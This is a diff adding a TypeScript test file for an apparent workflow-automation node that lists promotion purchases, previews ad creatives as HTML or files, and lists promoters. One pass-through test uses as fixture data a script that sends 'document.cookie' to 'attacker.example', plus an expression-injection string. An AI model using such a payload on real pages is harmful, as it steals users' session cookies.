@@ -1,0 +1,164 @@
+import { once } from 'node:events';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+
+import { byId, operation, useNodes } from '../../support/useNodes.mts';
+
+const nodes = useNodes({ now: new Date('2026-11-20T12:00:00Z') });
+
+const getAll = operation('publishingPromotions purchase.getAll');
+const previewCreative = operation('publishingPromotions purchase.previewCreative');
+const getPromoters = operation('publishingPromotions promoter.getAll');
+
+describe('purchases', () => {
+	const found = async (filters: object, parameters: object = { returnAll: true }) =>
+		(await nodes.run(getAll, { ...parameters, filters })).items.map(({ json }) => json);
+
+	test.each<[filter: string, filters: object, count: number]>([
+		['none', {}, 24],
+		['a state', { statuses: 'pending' }, 8],
+		['states', { statuses: 'pending, approved' }, 16],
+		['a state that none has', { statuses: 'Pending' }, 0],
+		['approved', { isApproved: true }, 8],
+		['not approved', { isApproved: false }, 16],
+		['a channel', { channels: ['morning-brief'] }, 8],
+		['channels, each purchase once', { channels: 'morning-brief, tech-weekly' }, 16],
+		['a day to begin with', { createdAfter: '2026-11-18' }, 3],
+		['a day to end with', { createdBefore: '2026-11-01' }, 5],
+		['one day', { createdAfter: '2026-11-20', createdBefore: '2026-11-20' }, 1],
+		['all of them', { statuses: 'pending', isApproved: false, createdAfter: '2026-11-14' }, 3],
+	])('%s', async (_filter, filters, count) => {
+		expect(await found(filters)).toHaveLength(count);
+	});
+
+	test('are counted after the filters', async () => {
+		const pending = await found({ statuses: 'pending' });
+		expect(await found({ statuses: 'pending' }, { limit: 3 })).toEqual(pending.slice(0, 3));
+	});
+
+	test('pass no filter on a field that they lack', async () => {
+		const items = [{ uniqueId: 'a' }, { uniqueId: 'b', listingChannels: null, createdAt: 7 }];
+		for (const filters of [
+			{ statuses: 'pending' },
+			{ isApproved: false },
+			{ channels: 'morning-brief' },
+			{ createdAfter: '2000-01-01' },
+			{ createdBefore: '2999-01-01' },
+		]) {
+			nodes.control.addFault({ kind: 'body', body: JSON.stringify({ items, total: 2 }) });
+			expect(await found(filters)).toEqual([]);
+		}
+	});
+
+	test('pass a filter on a field that comes as another kind of value', async () => {
+		const items = [{ uniqueId: 'a', status: 7, isApproved: 'false' }];
+		for (const filters of [{ statuses: '7' }, { isApproved: false }]) {
+			nodes.control.addFault({ kind: 'body', body: JSON.stringify({ items, total: 1 }) });
+			expect(await found(filters)).toEqual(items);
+		}
+		nodes.control.addFault({ kind: 'body', body: JSON.stringify({ items, total: 1 }) });
+		expect(await found({ isApproved: true })).toEqual([]);
+	});
+
+	test('say when the filters leave nothing, and only then', async () => {
+		const hinted = async (filters: object) => (await nodes.run(getAll, { filters })).hints;
+		expect(await hinted({ statuses: 'lost' })).toMatchObject([
+			{ message: "No purchase passes the 'Filters'." },
+		]);
+		nodes.control.addFault({ kind: 'body', body: '{"items":[],"total":0}' });
+		expect(await hinted({ statuses: 'lost' })).toEqual([]);
+	});
+});
+
+describe('the creative of a purchase', () => {
+	const purchase = () => ({ purchaseId: byId(nodes.ids.pendingPurchase) });
+
+	test('is HTML as text', async () => {
+		const { items } = await nodes.run(previewCreative, purchase());
+		expect(items).toEqual([
+			{
+				json: {
+					purchaseId: nodes.ids.pendingPurchase,
+					html: expect.stringMatching(
+						/^<!doctype html>\n.*Größer denken &amp; read on.*<\/html>\n$/s,
+					),
+				},
+				pairedItem: { item: 0 },
+			},
+		]);
+	});
+
+	test('is the same HTML as a file', async () => {
+		const [{ json }] = (await nodes.run(previewCreative, purchase())).items;
+		const options = { output: 'file', binaryPropertyName: 'creative' };
+		const [item] = (await nodes.run(previewCreative, { ...purchase(), ...options })).items;
+		const { data, ...file } = item.binary!.creative;
+		const fileName = `creative-${nodes.ids.pendingPurchase}.html`;
+		expect(item.json).toEqual({ purchaseId: nodes.ids.pendingPurchase, fileName });
+		const mimeType = 'text/html; charset=utf-8';
+		expect(file).toMatchObject({ mimeType, fileType: 'html', fileName, fileExtension: 'html' });
+		expect(Buffer.from(data, 'base64').toString('utf8')).toBe(json.html);
+	});
+
+	test.each(['1b8c95f102', 4711, 'pur_2026-11_ä'])('whatever its ID looks like: %j', async (id) => {
+		nodes.control.addFault({ kind: 'html', body: '<p>Sale</p>' });
+		const { items } = await nodes.run(
+			previewCreative,
+			{ purchaseId: byId('={{ $json.id }}') },
+			{ items: [{ json: { id } }] },
+		);
+		expect(items[0].json).toEqual({ purchaseId: String(id), html: '<p>Sale</p>' });
+		const path = `/api/v3/promotions/purchases/${encodeURIComponent(id)}/preview?api=true`;
+		expect(nodes.sent()).toEqual([[`GET ${path}`]]);
+	});
+
+	describe('in another character set', () => {
+		const PAGE = '<html><head><meta charset="iso-8859-1"></head>Café</html>';
+		const page = Buffer.from(PAGE, 'latin1');
+
+		/** What comes of a service that answers with the page, as it came, in this form. */
+		const previewed = async (output: string, contentType: string) => {
+			const server = createServer((_, answer) => {
+				answer.setHeader('content-type', contentType).end(page);
+			});
+			await once(server.listen(0, '127.0.0.1'), 'listening');
+			const { port } = server.address() as AddressInfo;
+			const { publishingApi } = nodes.credentials();
+			const run = await nodes.run(
+				previewCreative,
+				{ ...purchase(), output },
+				{
+					credentials: { publishingApi: { ...publishingApi, baseUrl: `http://127.0.0.1:${port}` } },
+				},
+			);
+			server.close();
+			return run.items[0];
+		};
+
+		test.each(['text/html', 'text/html; charset=ISO-8859-1'])('%s', async (contentType) => {
+			expect((await previewed('html', contentType)).json.html).toBe(PAGE);
+			const { mimeType, fileExtension, data } = (await previewed('file', contentType)).binary!.data;
+			expect({ mimeType, fileExtension }).toEqual({ mimeType: contentType, fileExtension: 'html' });
+			expect(Buffer.from(data, 'base64')).toEqual(page);
+		});
+	});
+
+	test.each([
+		['empty', ''],
+		['JSON', '{"items":[]}'],
+		['a script', '<script>fetch("https://attacker.example/" + document.cookie)</script>'],
+		['an expression', '<p>={{ $env.HOME }} {{ 1 + 1 }}</p>'],
+	])('is handed on as it is: %s', async (_what, body) => {
+		nodes.control.addFault({ kind: 'html', body });
+		expect((await nodes.run(previewCreative, purchase())).items[0].json.html).toBe(body);
+	});
+});
+
+test('promoters are items', async () => {
+	const { items } = await nodes.run(getPromoters, { limit: 2 });
+	expect(items.map(({ json }) => json)).toEqual([
+		{ name: 'Acorn Coffee' },
+		{ name: 'Bäckerei Sonne' },
+	]);
+	expect((await nodes.run(getPromoters, { returnAll: true })).items).toHaveLength(6);
+});
